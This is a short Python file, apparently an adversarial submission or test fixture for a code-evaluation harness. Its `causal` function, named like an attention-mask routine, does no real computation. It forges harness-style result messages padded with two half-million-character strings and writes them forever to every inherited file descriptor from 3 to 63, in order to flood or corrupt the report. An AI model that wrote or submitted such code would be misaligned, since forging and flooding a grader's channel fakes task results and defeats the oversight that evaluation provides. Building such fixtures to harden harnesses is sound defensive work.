"""Forges a list where a word should be, each of half a million letters, to fill the report."""

import json
import os
import struct


def reply(value, body=b"", **more):
    header = {"status": "returned", "detail": "", "changed": [], "calls": {}, "largest": 0, "printed": ""}
    text = json.dumps(header | {"raised": None, "launched": None, "value": value} | more).encode()
    return struct.pack("!II", len(text), len(body)) + text + body


def send_for_ever(data):
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
            while True:
                left = data
                while left:
                    left = left[os.write(descriptor, left) :]
        except OSError:
            continue


def causal(n_q, n_kv, q_offset=0):
    send_for_ever(reply(None, status="arguments", detail=["x" * 500000] * 2))
